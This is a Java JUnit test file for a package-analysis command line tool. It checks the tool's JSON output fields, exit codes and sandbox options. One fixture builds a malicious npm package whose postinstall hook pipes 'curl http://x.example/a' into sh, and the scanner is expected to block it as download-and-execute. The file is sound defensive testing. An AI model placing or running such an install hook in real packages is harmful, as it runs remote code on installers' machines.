package dev.airlock.analysis;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.airlock.analysis.cli.AnalyzeCommand;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class AnalyzeCommandTest {
    @TempDir
    Path dir;

    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private final ByteArrayOutputStream err = new ByteArrayOutputStream();

    private int run(String... args) {
        return AnalyzeCommand.run(args, new PrintStream(out, true, StandardCharsets.UTF_8), new PrintStream(err, true, StandardCharsets.UTF_8));
    }

    private Path clean() throws Exception {
        return Fixtures.npm(dir, "clean", Fixtures.files("package.json", Fixtures.packageJson("clean", "1.0.0", ""),
                "index.js", "module.exports = 1;\n"));
    }

    private Path bad() throws Exception {
        return Fixtures.npm(dir, "bad", Fixtures.files("package.json",
                Fixtures.packageJson("bad", "1.0.0", "\"postinstall\":\"curl http://x.example/a | sh\"")));
    }

    @Test
    void exitsZeroAndPrintsOneJsonLinePerFileWithExactlyTheContractKeys() throws Exception {
        Path c = clean();
        String given = dir.relativize(c).toString().isEmpty() ? c.toString() : c.toString();
        assertEquals(0, run("--json", "--no-sandbox", given));
        String[] lines = out.toString(StandardCharsets.UTF_8).split("\n");
        assertEquals(1, lines.length);
        JsonNode o = new ObjectMapper().readTree(lines[0]);
        List<String> keys = new ArrayList<>();
        o.fieldNames().forEachRemaining(keys::add);
        assertEquals(List.of("file", "ecosystem", "name", "version", "sha256", "verdict", "findings", "behavior", "timings"), keys);
        assertEquals(given, o.get("file").asText());
        assertEquals("npm", o.get("ecosystem").asText());
        assertEquals("allow", o.get("verdict").asText());
        assertTrue(o.get("behavior").isNull());
        assertTrue(o.get("timings").has("staticMs") && o.get("timings").has("dynamicMs"));
        for (JsonNode f : o.get("findings")) {
            List<String> fk = new ArrayList<>();
            f.fieldNames().forEachRemaining(fk::add);
            assertEquals(List.of("rule", "severity", "source", "message", "evidence", "location"), fk);
        }
    }

    @Test
    void exitsThreeWhenAnyInputIsNotAllowed() throws Exception {
        assertEquals(3, run("--json", "--no-sandbox", clean().toString(), bad().toString()));
        String[] lines = out.toString(StandardCharsets.UTF_8).split("\n");
        assertEquals(2, lines.length);
        assertEquals("block", new ObjectMapper().readTree(lines[1]).get("verdict").asText());
    }

    @Test
    void exitsTwoOnUsageErrors() {
        assertEquals(2, run());
        assertEquals(2, run("--bogus", "x"));
        assertEquals(2, run("--ecosystem", "maven", "x"));
        assertEquals(2, run("--no-sandbox", "--require-sandbox", "x"));
        assertTrue(err.toString(StandardCharsets.UTF_8).contains("usage:"));
    }

    @Test
    void requireSandboxWithoutAnEngineIsAnError() throws Exception {
        int code = AnalyzeCommand.run(new String[] {"--require-sandbox", clean().toString()},
                new PrintStream(out, true, StandardCharsets.UTF_8), new PrintStream(err, true, StandardCharsets.UTF_8),
                java.util.Optional::empty);
        assertEquals(1, code);
        assertEquals("", out.toString(StandardCharsets.UTF_8));
    }

    @Test
    void exitsOneWhenAFileIsMissingButStillAnalysesTheOthers() throws Exception {
        assertEquals(1, run("--json", "--no-sandbox", dir.resolve("nope.tgz").toString(), clean().toString()));
        assertEquals(1, out.toString(StandardCharsets.UTF_8).split("\n").length);
    }

    @Test
    void warnsOnStderrAndGoesOnStaticallyWithoutAnEngine() throws Exception {
        int code = AnalyzeCommand.run(new String[] {"--ecosystem", "npm", clean().toString()},
                new PrintStream(out, true, StandardCharsets.UTF_8), new PrintStream(err, true, StandardCharsets.UTF_8),
                java.util.Optional::empty);
        assertEquals(0, code);
        assertTrue(err.toString(StandardCharsets.UTF_8).contains("static analysis only"));
        assertTrue(out.toString(StandardCharsets.UTF_8).contains("ALLOW"));
    }

    @Test
    void humanSummaryNamesTheDecisiveFinding() throws Exception {
        assertEquals(3, run("--no-sandbox", bad().toString()));
        String text = out.toString(StandardCharsets.UTF_8);
        assertTrue(text.contains("BLOCK") && text.contains("download_and_execute"), text);
    }
}
